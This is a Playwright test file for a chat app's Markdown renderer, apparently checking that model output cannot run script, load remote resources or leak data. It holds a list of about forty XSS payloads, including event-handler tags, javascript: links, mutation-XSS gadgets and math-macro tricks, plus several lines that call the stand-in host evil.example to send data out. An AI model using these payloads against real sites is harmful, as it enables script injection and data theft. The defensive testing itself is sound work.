"""A model's output is text: whatever it contains, nothing runs, nothing is loaded, nothing is sent."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import RunningServer
from tests.page.conftest import Chat, Troubles
from tests.page.test_look import show_answer

RUN = "window.pwned=1"
ATTACKS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java&#115;cript:{RUN})",
    f"[click](&#x6A;avascript:{RUN})",
    f"[click](vbscript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n\n[a]",
    "![x](http://evil.example/leak?secret)",
    "![x](//evil.example/leak)",
    "![x](/flush_cache)",
    "[flush](/flush_cache)",
    "[flush](//127.0.0.1/flush_cache)",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\n```',
    f"`<img src=x onerror={RUN}>`",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\url{{javascript:{RUN}}}$",
    "$\\includegraphics{http://evil.example/x.png}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    "$\\style{background:url(http://evil.example)}{x} \\class{x}{y} \\data{a=1}{z} \\id{app}{q}$",
    f"$$\\def\\x{{\\x\\x}}\\x$$ $<script>{RUN}</script>$",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"<div id=app></div><div id=announcer></div><button class=copy-code onclick={RUN}>Copy</button>",
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg><svg><use href='data:image/svg+xml,x'/></svg>",
    f'<template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"\u202e<img src=x onerror={RUN}>\u0000<scr\u0000ipt>{RUN}</scr\u0000ipt>",
]


def test_nothing_runs_and_nothing_is_asked_for(page: Page, server: RunningServer, troubles: Troubles) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    chat = Chat(page, server.url)
    for attack in ATTACKS:
        del asked[:]
        page.unroute("**/v1/chat/completions")
        show_answer(page, attack, reasoning=attack)
        page.get_by_role("button", name="New conversation").click()
        chat.say(attack)
        expect(page.locator(".composer")).to_be_visible()
        for link in page.locator(".markdown a[href]").all():
            assert (link.get_attribute("href") or "").startswith(("http://evil.example", "https://")), attack
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        said = page.locator(".markdown")
        assert said.locator("script, img, svg, iframe, object, embed, style, link, form, input, [style], [id]").count() == 0, (
            attack
        )
        assert page.evaluate("() => window.pwned") is None, attack
        assert [url for url in asked if not url.endswith("/v1/chat/completions")] == [], attack


def test_the_policy_stops_what_the_sanitizer_would_not(page: Page, server: RunningServer, troubles: Troubles) -> None:
    """The fence behind the fence: even markup that got through could do nothing."""
    troubles.expected = ("TrustedHTML", "TrustedScript", "Content Security Policy")
    Chat(page, server.url)
    outcome = page.evaluate(
        """() => { const box = document.createElement('div'); document.body.append(box);
            const attempt = (work) => { try { work(); return 'done'; } catch (error) { return error.name; } };
            return [attempt(() => { box.innerHTML = '<img src=x onerror="window.pwned=1">'; }),
                attempt(() => box.setAttribute('onclick', 'window.pwned=1'))]; }"""
    )
    assert outcome == ["TypeError", "TypeError"]
    assert page.evaluate("() => window.pwned") is None
